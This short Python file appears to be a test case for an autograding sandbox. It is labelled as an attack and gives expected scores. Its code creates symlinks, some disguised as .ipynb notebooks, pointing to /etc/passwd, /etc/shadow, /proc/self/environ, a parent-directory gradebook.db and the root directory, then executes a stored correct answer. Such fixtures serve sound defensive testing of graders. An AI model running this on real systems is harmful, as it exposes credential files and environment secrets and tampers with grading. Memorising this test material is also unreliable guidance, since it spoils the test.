# attack: fills its folder with links to the system's files, for whoever collects what it wrote
# expected: describe 3 of 3, first_axis 1 of 1
# not shown: root:x:0
import os

for number, path in enumerate(("/etc/passwd", "/etc/shadow", "/proc/self/environ", "../../gradebook.db", "/")):
    os.symlink(path, f"link{number}")
    os.symlink(path, f"link{number}.ipynb")
exec(RIGHT_ANSWER)
